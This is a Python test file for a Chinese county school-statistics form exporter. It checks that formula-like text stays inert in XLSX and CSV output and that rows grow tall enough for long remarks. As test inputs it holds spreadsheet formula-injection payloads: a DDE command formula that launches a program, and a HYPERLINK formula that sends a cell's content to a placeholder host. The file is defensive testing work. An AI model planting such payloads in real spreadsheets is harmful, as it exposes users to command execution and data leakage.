"""The statistics form as files: typed text stays text in Excel, never a live formula."""
from __future__ import annotations

import csv
import datetime
import io
import math

from openpyxl import load_workbook

from server.exports import Filler, to_csv, to_xlsx
from server.queries.measures import KEYS
from server.queries.stats_form import StatsForm, StatsRow

TYPED = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点这里\")", "+86 139 0000 1234", "-2 人转学", "@SUM(A1)")


def _form() -> StatsForm:
    rows = tuple(StatsRow(f"u{i}", name, tuple(range(len(KEYS))), remark)
                 for i, (name, remark) in enumerate([("=1+1小学", TYPED[0]), ("掘港中学", TYPED[2]),
                                                     ("栟茶小学", TYPED[3])]))
    return StatsForm("county", "如东县", "county", "2026-09-01", "2026-11-30", rows,
                     StatsRow(None, "合计", tuple(range(len(KEYS))), ""))


def test_text_that_begins_like_a_formula_is_a_text_cell_in_the_xlsx() -> None:
    data = to_xlsx(_form(), Filler(datetime.date(2026, 12, 2), "=cmd|' /C calc'!A0", TYPED[1]))
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    texts = {c.value for c in cells}
    assert {TYPED[0], TYPED[2], TYPED[3], "=1+1小学"} <= texts, "each typed text is kept as typed"
    assert [c.value for c in ws[5]][:3] == ["=1+1小学", 0, 1], "the figures stay numbers"


def test_text_that_begins_like_a_formula_gets_an_apostrophe_in_the_csv() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_form()).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:4]] == ["'=1+1小学", "掘港中学", "栟茶小学"]
    assert [r[-1] for r in rows[1:4]] == ["'" + TYPED[0], "'" + TYPED[2], "'" + TYPED[3]]
    assert rows[1][1:3] == ["0", "1"], "the figures stay numbers"


def test_a_formula_behind_an_invisible_control_character_is_still_text_in_both_files() -> None:
    hidden = "\x01=HYPERLINK(\"http://example.invalid/\",\"点这里\")"
    rows = (StatsRow("u0", "\x02=1+1小学", tuple(range(len(KEYS))), hidden),)
    form = StatsForm("county", "如东县", "county", "2026-09-01", "2026-11-30", rows,
                     StatsRow(None, "合计", tuple(range(len(KEYS))), ""))
    ws = load_workbook(io.BytesIO(to_xlsx(form, Filler(datetime.date(2026, 12, 2), "\x03=1", "")))).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    assert {"=1+1小学", hidden[1:]} <= {c.value for c in cells}, "the text without the control character"
    rows_read = list(csv.reader(io.StringIO(to_csv(form).decode("utf-8-sig"))))
    assert rows_read[1][0] == "'=1+1小学" and rows_read[1][-1] == "'" + hidden[1:]


def _wrapped_lines(text: str, width: float) -> int:
    """Lines Excel wraps ``text`` into in a column ``width`` characters wide: a Chinese character
    (宋体 11 pt, about 15 px) takes two of the column's 7 px units."""
    return sum(max(1, math.ceil(sum(2 if ord(ch) > 0x2E7F else 1 for ch in line) / width))
               for line in text.split("\n"))


def test_a_long_remark_or_unit_name_gets_a_row_tall_enough_to_show_it_in_the_xlsx() -> None:
    remark = ("家长会人次含线上参会家长。本月因期中考试，第二次宣传教育活动推迟至下月初开展；"
              "另有两名排查学生已转学至外县，已与转入学校联系并移交帮扶档案。\n联系人：缪晓红")
    long_name = "如东县掘港街道城东实验小学校外教育辅导站（含分校区）"
    rows = (StatsRow("u0", long_name, tuple(range(len(KEYS))), remark),
            StatsRow("u1", "栟茶小学", tuple(range(len(KEYS))), "无"))
    form = StatsForm("county", "如东县", "county", "2026-09-01", "2026-11-30", rows,
                     StatsRow(None, "合计", tuple(range(len(KEYS))), ""))
    ws = load_workbook(io.BytesIO(to_xlsx(form, Filler(datetime.date(2026, 12, 2))))).active
    assert ws is not None
    line_height = 14  # points, one line of 11 pt text
    widths = {c: ws.column_dimensions[c].width for c in ("A", "J")}
    need = max(_wrapped_lines(remark, widths["J"]), _wrapped_lines(long_name, widths["A"]))
    assert need >= 5
    height = ws.row_dimensions[5].height
    assert height is not None and height >= need * line_height, (
        f"a fixed row height cuts the remark off in Excel and on paper: {height} pt for {need} lines")
    assert ws.row_dimensions[6].height == 22, "a one-line row keeps the form's usual height"


def test_a_remark_longer_than_a_row_can_be_stays_within_excels_row_height_limit() -> None:
    rows = (StatsRow("u0", "栟茶小学", tuple(range(len(KEYS))), "家长会线上人次按签到表计。" * 300),)
    form = StatsForm("county", "如东县", "county", "2026-09-01", "2026-11-30", rows,
                     StatsRow(None, "合计", tuple(range(len(KEYS))), ""))
    ws = load_workbook(io.BytesIO(to_xlsx(form, Filler(datetime.date(2026, 12, 2))))).active
    assert ws is not None
    assert ws.row_dimensions[5].height == 409, "Excel's tallest row (409 pt); a taller one opens at the default"
